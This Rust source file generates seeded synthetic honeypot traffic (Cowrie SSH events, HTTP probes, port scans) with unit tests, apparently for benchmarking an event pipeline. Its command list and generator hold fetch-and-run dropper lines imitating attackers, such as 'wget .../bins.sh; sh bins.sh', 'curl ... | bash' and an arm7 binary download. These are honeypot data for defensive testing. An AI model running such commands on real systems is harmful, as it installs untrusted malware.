//! A realistic mix of honeypot events, made from a seed.
//!
//! Shares and sizes follow what real sensors send: Cowrie sessions (connect, version, key exchange, logins, commands,
//! tunnels, close), HTTP requests, port probes and dionaea-like connections; sources, user names, passwords and commands
//! repeat as in the wild (few are frequent, many are rare). All addresses are of 198.18.0.0/15, the network set aside
//! for measurements (RFC 2544). Nothing here was recorded from anybody.

use rand::{RngExt, SeedableRng};
use rand_chacha::ChaCha8Rng;

/// Events encoded as they stand in a batch, one behind the other with commas between, to be sent round and round.
#[derive(Debug)]
pub struct Mix {
    joined: Vec<u8>,
    /// Where each event begins; one more entry stands for the end and its comma.
    starts: Vec<usize>,
}

impl Mix {
    /// Makes `events_count` events (at least one).
    pub fn new(seed: u64, events_count: usize) -> Self {
        let mut maker =
            Maker { rng: ChaCha8Rng::seed_from_u64(seed), clock_us: 1_767_225_600_000_000, number: 0 };
        let (mut joined, mut starts) = (Vec::with_capacity(events_count * 640), vec![0]);
        for _ in 0..events_count.max(1) {
            joined.extend_from_slice(maker.event().as_bytes());
            joined.push(b',');
            starts.push(joined.len());
        }
        Self { joined, starts }
    }

    /// How many different events there are.
    pub fn events_count(&self) -> usize {
        self.starts.len() - 1
    }

    /// Mean bytes of an event.
    pub fn mean_bytes(&self) -> f64 {
        self.joined.len() as f64 / self.events_count() as f64 - 1.0
    }

    /// Event number `seq`, counted round and round.
    pub fn event(&self, seq: u64) -> &[u8] {
        self.run(seq, 1, usize::MAX).0
    }

    /// Events from number `seq` on, joined by commas: at most `events_max`, at most `bytes_max` bytes (but one always),
    /// and not past the last different event. With how many they are.
    pub fn run(&self, seq: u64, events_max: usize, bytes_max: usize) -> (&[u8], usize) {
        let first = usize::try_from(seq % self.events_count() as u64).unwrap_or(0);
        let from = self.starts.get(first).copied().unwrap_or(0);
        let ends = self.starts.get(first + 1..).unwrap_or_default();
        let ends = ends.get(..events_max.clamp(1, ends.len().max(1))).unwrap_or(ends);
        let count = ends.partition_point(|end| end - from <= bytes_max).max(1);
        let to = ends.get(count - 1).copied().unwrap_or(self.joined.len());
        (self.joined.get(from..to.saturating_sub(1)).unwrap_or_default(), count)
    }
}

const USERS: &[&str] =
    &["root", "admin", "ubuntu", "test", "oracle", "postgres", "git", "pi", "user", "deploy"];
const COMMANDS: &[&str] = &[
    "uname -a",
    "cat /proc/cpuinfo | grep name | wc -l",
    "cd /tmp || cd /var/run || cd /mnt; wget http://198.18.0.7/bins.sh; chmod 777 bins.sh; sh bins.sh",
    "echo -e \\\"\\\\x6F\\\\x6B\\\"",
    "crontab -l",
    "w; last; id",
    "curl -s http://198.19.3.1/x/install | bash",
    "free -m | grep Mem | awk '{print $2 ,$3, $4}'",
];
const PATHS: &[&str] =
    &["/", "/wp-login.php", "/.env", "/boaform/admin/formLogin", "/manager/html", "/cgi-bin/luci"];
const AGENTS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36",
    "python-requests/2.32.3",
    "curl/8.5.0",
    "Mozilla/5.0 zgrab/0.x",
];
const KEX: &[&str] = &[
    "curve25519-sha256",
    "curve25519-sha256@libssh.org",
    "ecdh-sha2-nistp256",
    "ecdh-sha2-nistp384",
    "ecdh-sha2-nistp521",
    "diffie-hellman-group-exchange-sha256",
    "diffie-hellman-group14-sha256",
    "diffie-hellman-group14-sha1",
];
const CIPHERS: &[&str] = &[
    "aes128-ctr",
    "aes192-ctr",
    "aes256-ctr",
    "aes128-gcm@openssh.com",
    "aes256-gcm@openssh.com",
    "aes128-cbc",
];
const MACS: &[&str] =
    &["hmac-sha2-256-etm@openssh.com", "hmac-sha2-512-etm@openssh.com", "hmac-sha2-256", "hmac-sha1"];
const KEYS: &[&str] = &["ssh-ed25519", "rsa-sha2-512", "rsa-sha2-256", "ecdsa-sha2-nistp256", "ssh-rsa"];

struct Maker {
    rng: ChaCha8Rng,
    clock_us: i64,
    number: u64,
}

impl Maker {
    fn event(&mut self) -> String {
        self.number += 1;
        self.clock_us += self.rng.random_range(50..5_000);
        let share = self.rng.random_range(0..1_000);
        // Shares in thousandths, see docs/benchmarks.md.
        match share {
            0..149 => self.cowrie("session.connect", "New connection", ""),
            149..298 => {
                let ms = self.rng.random_range(40..90_000);
                let duration = format!("\"duration_ms\":{ms}");
                self.cowrie("session.closed", "Connection lost", &duration)
            }
            298..436 => self.login("failed"),
            436..560 => {
                let version = self.rng.random_range(4..9);
                let text = format!("\"version\":\"SSH-2.0-libssh_0.{version}.6\"");
                self.cowrie("client.version", "Remote SSH version", &text)
            }
            560..677 => {
                let hassh = self.frequent(300);
                let text = key_exchange(hassh);
                self.cowrie("client.kex", "SSH client hassh fingerprint", &text)
            }
            677..760 => self.http(),
            760..826 => {
                let n = usize::try_from(self.frequent(COMMANDS.len() as u64)).unwrap_or(0);
                let command = COMMANDS.get(n).copied().unwrap_or("id");
                let text = match self.number % 3 {
                    0 => format!("\"input\":\"{command}\""),
                    _ => format!(
                        "\"input\":\"cd /tmp; wget http://{}/{:x}/arm7; ./arm7 x{:x}\"",
                        ip(self.source()),
                        self.frequent(2_000),
                        self.frequent(5_000)
                    ),
                };
                self.cowrie("command.input", "CMD", &text)
            }
            826..855 => {
                let port = self.rng.random_range(1..65_535);
                let text = format!("\"dst_ip_wanted\":\"198.19.0.9\",\"dst_port_wanted\":{port}");
                self.cowrie("direct-tcpip.request", "direct-tcp connection request", &text)
            }
            855..880 => self.login("success"),
            880..901 => self.cowrie("session.params", "", "\"arch\":\"linux-x64-lsb\""),
            901..922 => {
                let hash = self.number.wrapping_mul(0x9E37_79B9_7F4A_7C15);
                let text = format!(
                    "\"ttylog\":\"var/lib/tty/{hash:064x}\",\"size\":1403,\"shasum\":\"{hash:064x}\",\"duplicate\":false"
                );
                self.cowrie("log.closed", "Closing TTY Log", &text)
            }
            922..934 => {
                let text = format!(
                    "\"url\":\"http://198.18.0.7/bins.sh\",\"outfile\":\"dl/{0:064x}\",\"shasum\":\"{0:064x}\"",
                    self.frequent(2_500)
                );
                self.cowrie("session.file_download", "Downloaded URL", &text)
            }
            _ => self.probe(),
        }
    }

    fn login(&mut self, end: &str) -> String {
        let user = usize::try_from(self.frequent(USERS.len() as u64)).unwrap_or(0);
        let password = self.frequent(120_000);
        let text = format!(
            "\"username\":\"{}\",\"password\":\"{:x}\"",
            USERS.get(user).copied().unwrap_or("root"),
            password.wrapping_mul(0x9E37_79B9_7F4A_7C15) >> 30
        );
        self.cowrie(&format!("login.{end}"), "login attempt", &text)
    }

    /// One Cowrie event: its own object has the fields that Cowrie repeats in each line.
    fn cowrie(&mut self, name: &str, message: &str, more: &str) -> String {
        let (source, sensor) = (self.source(), self.frequent(200));
        let session =
            u64::from(source).wrapping_mul(0x9E37_79B9).wrapping_add(self.number / 9) & 0xffff_ffff_ffff;
        let at = self.timestamp();
        let comma = if more.is_empty() { "" } else { "," };
        self.envelope(
            &format!("ssh-{sensor}"),
            "cowrie",
            &format!("cowrie.{name}"),
            &at,
            &format!(
                "\"eventid\":\"cowrie.{name}\",\"src_ip\":\"{}\",\"src_port\":{},\"dst_ip\":\"198.18.255.2\",\"dst_port\":2222,\"session\":\"{session:012x}\",\"protocol\":\"ssh\",{more}{comma}\"message\":\"{message} [session: {session:012x}]\",\"sensor\":\"hp-{sensor:03}\",\"uuid\":\"{sensor:08x}-77aa-11f0-9d3c-0242ac110002\",\"timestamp\":\"{at}\"",
                ip(source),
                40_000 + self.number % 20_000,
            ),
        )
    }

    fn http(&mut self) -> String {
        let (source, at) = (self.source(), self.timestamp());
        let path = usize::try_from(self.frequent(PATHS.len() as u64)).unwrap_or(0);
        let agent = usize::try_from(self.frequent(AGENTS.len() as u64)).unwrap_or(0);
        self.envelope(
            "web-1",
            "http",
            "http.request",
            &at,
            &format!(
                "\"src_ip\":\"{}\",\"src_port\":{},\"dst_port\":80,\"protocol\":\"http\",\"method\":\"GET\",\"path\":\"{}?{}\",\"user_agent\":\"{}\",\"headers\":{{\"host\":\"198.18.255.2\",\"accept\":\"*/*\"}}",
                ip(source),
                30_000 + self.number % 30_000,
                PATHS.get(path).copied().unwrap_or("/"),
                self.number % 4_999,
                AGENTS.get(agent).copied().unwrap_or("-"),
            ),
        )
    }

    fn probe(&mut self) -> String {
        let (source, at, port) = (self.source(), self.timestamp(), 1 + self.frequent(3_000));
        self.envelope(
            "probe",
            "honeytrap",
            "connection.probe",
            &at,
            &format!(
                "\"src_ip\":\"{}\",\"src_port\":{},\"dst_port\":{port},\"protocol\":\"tcp\"",
                ip(source),
                20_000 + self.number % 40_000
            ),
        )
    }

    fn envelope(&self, pot: &str, pot_type: &str, event: &str, at: &str, data: &str) -> String {
        format!(
            "{{\"pot_id\":\"{pot}\",\"pot_type\":\"{pot_type}\",\"event_type\":\"{event}\",\"timestamp\":\"{at}\",\"data\":{{{data}}}}}"
        )
    }

    fn timestamp(&self) -> String {
        bee_wire::Micros::from_unix_us(self.clock_us).to_string()
    }

    /// One of 100,000 sources; a few make most of the noise.
    fn source(&mut self) -> u32 {
        let rank = self.frequent(100_000);
        0xC612_0000 | u32::try_from(rank.wrapping_mul(40_503) % 131_072).unwrap_or(0)
    }

    /// A number below `count`, small ones far more often (Zipf's law with exponent 1).
    fn frequent(&mut self, count: u64) -> u64 {
        let exponent: f64 = self.rng.random();
        ((count as f64).powf(exponent) as u64).saturating_sub(1).min(count.saturating_sub(1))
    }
}

/// What a client of this kind offers: its lists in its own order, as Cowrie writes them.
fn key_exchange(client: u64) -> String {
    let kind = client.wrapping_mul(0x9E37_79B9_7F4A_7C15);
    let turned = |list: &[&str], shift: u32| {
        let mut list: Vec<String> = list.iter().map(|name| (*name).to_owned()).collect();
        let by = usize::try_from(kind >> shift & 7).unwrap_or(0) % list.len().max(1);
        list.rotate_left(by);
        list
    };
    let (kex, ciphers, macs, keys) =
        (turned(KEX, 8), turned(CIPHERS, 16), turned(MACS, 24), turned(KEYS, 32));
    let quoted = |list: &[String]| format!("[\"{}\"]", list.join("\",\""));
    format!(
        "\"hassh\":\"{kind:016x}{:016x}\",\"hasshAlgorithms\":\"{};{};{};none,zlib@openssh.com\",\"kexAlgs\":{},\"keyAlgs\":{},\"encCS\":{},\"macCS\":{},\"compCS\":[\"none\",\"zlib@openssh.com\"],\"langCS\":[\"\"]",
        kind.rotate_left(29),
        kex.join(","),
        ciphers.join(","),
        macs.join(","),
        quoted(&kex),
        quoted(&keys),
        quoted(&ciphers),
        quoted(&macs),
    )
}

fn ip(bits: u32) -> std::net::Ipv4Addr {
    std::net::Ipv4Addr::from_bits(bits)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_event_is_one_that_core_takes_and_the_size_is_that_of_real_ones() {
        let mix = Mix::new(42, 5_000);
        let mut types = std::collections::BTreeSet::new();
        for seq in 0..5_000 {
            let event = bee_wire::codec::decode_event(mix.event(seq)).unwrap();
            assert!(event.timestamp.is_some() && event.data.get().contains("src_ip"));
            types.insert(event.event_type.into_owned());
        }
        assert!(types.len() >= 13, "{types:?}");
        assert!((450.0..650.0).contains(&mix.mean_bytes()), "{}", mix.mean_bytes());
    }

    #[test]
    fn the_same_seed_makes_the_same_events() {
        assert_eq!(Mix::new(7, 300).joined, Mix::new(7, 300).joined);
    }

    #[test]
    fn a_run_ends_at_its_limits_and_at_the_end_of_the_mix() {
        let mix = Mix::new(1, 10);
        assert_eq!(mix.run(3, 4, usize::MAX).1, 4);
        assert_eq!(mix.run(8, 100, usize::MAX).1, 2);
        assert_eq!(mix.run(18, 100, usize::MAX), mix.run(8, 100, usize::MAX));
        assert_eq!(mix.run(0, 100, 1).1, 1, "one event is always taken");
        let (bytes, count) = mix.run(0, 3, usize::MAX);
        let all = [b"[", bytes, b"]"].concat();
        let events: Vec<serde_json::Value> = serde_json::from_slice(&all).unwrap();
        assert_eq!((events.len(), count), (3, 3));
    }
}
